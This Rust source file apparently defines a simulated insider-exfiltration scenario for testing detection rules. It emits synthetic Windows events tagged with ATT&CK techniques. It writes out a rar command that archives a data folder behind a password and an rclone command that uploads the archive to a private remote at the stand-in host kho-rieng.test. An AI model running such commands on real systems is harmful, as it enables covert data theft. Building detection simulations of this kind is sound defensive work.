//! Somebody who may read the files packs them and sends them to a storage of his own.

use super::{Script, Story};
use crate::device::windows::Event;

pub(super) const STORY: Story = Story {
    id: "insider",
    title_vi: "Người bên trong đưa dữ liệu ra ngoài",
    title_en: "Export by somebody inside",
    attack: &["T1005", "T1560.001", "T1567.002"],
    rules: &["windows/archive_with_password", "windows/exfiltration_tool"],
    steps,
};

fn steps(script: &mut Script<'_>) {
    let seat = script.seat("pc-sotc", 2);
    let cmd = "C:\\Windows\\System32\\cmd.exe";
    let pack = "rar.exe a -r -hpMau0001 C:\\Users\\Public\\a.rar D:\\NganSach";
    script.log("pc-sotc", 0.0, Event::process(&seat, cmd, "D:\\Cong cu\\rar.exe", pack));
    let send = "rclone.exe copy C:\\Users\\Public\\a.rar kho-rieng:du-lieu --transfers 4";
    script.log("pc-sotc", 70.0, Event::process(&seat, cmd, "D:\\Cong cu\\rclone.exe", send));
    let attacker = script.attacker();
    let to =
        Event::connection(&seat, "D:\\Cong cu\\rclone.exe", &attacker, "kho-rieng.test", "443");
    script.log("pc-sotc", 72.0, to);
}
